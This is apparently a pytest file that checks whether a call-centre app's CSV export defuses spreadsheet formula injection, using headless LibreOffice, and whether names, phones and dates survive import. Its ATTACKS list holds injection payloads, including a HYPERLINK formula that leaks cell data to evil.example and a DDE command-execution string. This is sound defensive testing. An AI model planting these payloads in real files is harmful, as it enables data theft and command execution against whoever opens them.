"""The CSV export opened by a real spreadsheet program (LibreOffice Calc, headless).

LibreOffice imports the CSV with formula evaluation switched on (the worst
case) and saves it as .xlsx; the sheet inside must hold no formula, the
defused cells must read as the text that was written, and ordinary text must
come through unchanged. A control file without defusing proves the check can
fail: there LibreOffice does turn ``=1+1`` into a formula.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest

from desktop_app.core.call import Customer
from desktop_app.core.export import write_csv
from tests.synthetic import sample_call

pytestmark = pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="needs LibreOffice (apt-get install libreoffice-calc-nogui)",
)

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
# CSV import options: comma, double quote, UTF-8 (76), from line 1, standard
# cells, ..., and the 13th token: evaluate formulas = true.
CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")',
    "+2+3",
    "-4+5",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
ORDINARY = [
    "Ann Adams",
    "Zoë O'Brien — café «noisy line»",
    'She said "never again", twice',
    "refund 1+1 = 2 (agreed)",
    "line one\nline two",
]


def to_xlsx(csv_file: Path, workdir: Path) -> Path:
    profile = workdir / "lo-profile"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            f"--infilter={CSV_IMPORT}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(workdir / "out"),
            str(csv_file),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return workdir / "out" / f"{csv_file.stem}.xlsx"


def sheet_cells(xlsx: Path) -> tuple[list[str], int]:
    """Every cell's text as the spreadsheet holds it, and how many cells are formulas."""
    with zipfile.ZipFile(xlsx) as book:
        # Files LibreOffice just wrote from our own CSV, not outside input.
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t")) for si in shared]
    formulas = len(sheet.findall(".//x:f", NS))
    texts = []
    for cell in sheet.iter(f"{{{NS['x']}}}c"):
        value = cell.find("x:v", NS)
        if cell.get("t") == "s" and value is not None and value.text is not None:
            texts.append(strings[int(value.text)])
        elif value is not None and value.text is not None:
            texts.append(value.text)
    return texts, formulas


def test_no_formula_is_evaluated_and_ordinary_text_survives(tmp_path: Path) -> None:
    calls = [
        sample_call(id=f"attack-{n}", notes=text, customer=Customer(text, "", ""))
        for n, text in enumerate(ATTACKS)
    ] + [
        sample_call(id=f"plain-{n}", notes=text, customer=Customer(text, "ACC-1", ""))
        for n, text in enumerate(ORDINARY)
    ]
    ours = tmp_path / "calls.csv"
    write_csv(calls, ours)
    control = tmp_path / "control.csv"
    control.write_text("notes\r\n=1+1\r\n", encoding="utf-8")

    cells, formulas = sheet_cells(to_xlsx(ours, tmp_path))
    _, control_formulas = sheet_cells(to_xlsx(control, tmp_path))

    assert control_formulas == 1, "LibreOffice evaluates an undefused formula"
    assert formulas == 0
    for text in ORDINARY:
        assert text in cells, text
    for text in ATTACKS:
        # LibreOffice reads a lone carriage return in a cell as a line break.
        assert "'" + text.replace("\r", "\n") in cells, text


# -- what a spreadsheet shows ----------------------------------------------------

#: Calc's import left to find the character set itself (the empty third token),
#: special numbers (dates, times) detected, formulas not evaluated.
CSV_DEFAULT_IMPORT = "CSV:44,34,,1,,0,false,true,true,false,false,-1,false"


def sheet_rows(xlsx: Path) -> list[list[tuple[str, str]]]:
    """Every row as (cell type, text or number) pairs: "s" for text, "n" for a number."""
    with zipfile.ZipFile(xlsx) as book:
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t")) for si in shared]
    rows = []
    for row in sheet.iter(f"{{{NS['x']}}}row"):
        cells = []
        for cell in row.iter(f"{{{NS['x']}}}c"):
            value = cell.find("x:v", NS)
            text = value.text if value is not None and value.text is not None else ""
            kind = cell.get("t", "n")
            cells.append((kind, strings[int(text)] if kind == "s" else text))
        rows.append(cells)
    return rows


def convert(csv_file: Path, workdir: Path, import_options: str) -> Path:
    profile = workdir / "lo-profile"
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
            f"--infilter={import_options}", "--convert-to", "xlsx",
            "--outdir", str(workdir / "out"), str(csv_file),
        ],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return workdir / "out" / f"{csv_file.stem}.xlsx"


def test_names_phones_and_times_read_as_written_in_a_spreadsheet(tmp_path: Path) -> None:
    name = "Zoë Ødegård-Núñez 😀"
    cause = "Tarif mis à jour, page de facturation pas à jour"
    call = sample_call(customer=Customer(name, "00042", "0033612345678"), cause=cause)
    ours = tmp_path / "calls.csv"
    write_csv([call], ours, tz=ZoneInfo("Europe/Paris"))
    # The phone as it was written before: a bare number.
    control = tmp_path / "control.csv"
    control.write_text("phone\r\n0033612345678\r\n", encoding="utf-8-sig")

    header, row = sheet_rows(convert(ours, tmp_path, CSV_DEFAULT_IMPORT))
    cells = dict(zip((text for _kind, text in header), row, strict=True))
    _, control_row = sheet_rows(convert(control, tmp_path, CSV_DEFAULT_IMPORT))

    assert control_row == [("n", "33612345678")], "a bare phone number loses its zeros"
    # The byte-order mark (for Excel, which reads UTF-8 only with it) stays out of the cells.
    assert header[0] == ("s", "call_id")
    assert cells["customer_name"] == ("s", name)
    # Text, as typed, with no quote character in sight (the word joiner is invisible).
    assert cells["phone"] == ("s", "\u20600033612345678")
    assert cells["account"] == ("s", "\u206000042")
    assert "'" not in cells["phone"][1] + cells["account"][1]
    # A date-time Calc can sort and compute with: days since 1899-12-30.
    started = datetime(2026, 1, 5, 10, 0) - datetime(1899, 12, 30)
    kind, days = cells["started_at"]
    assert kind == "n" and float(days) == pytest.approx(started.total_seconds() / 86400)
    assert cells["ended_at"][0] == "n" and float(cells["ended_at"][1]) > float(
        cells["started_at"][1]
    )
    assert cells["utc_offset"] == ("s", "UTC+01:00")
    assert cells["cause"] == ("s", cause)
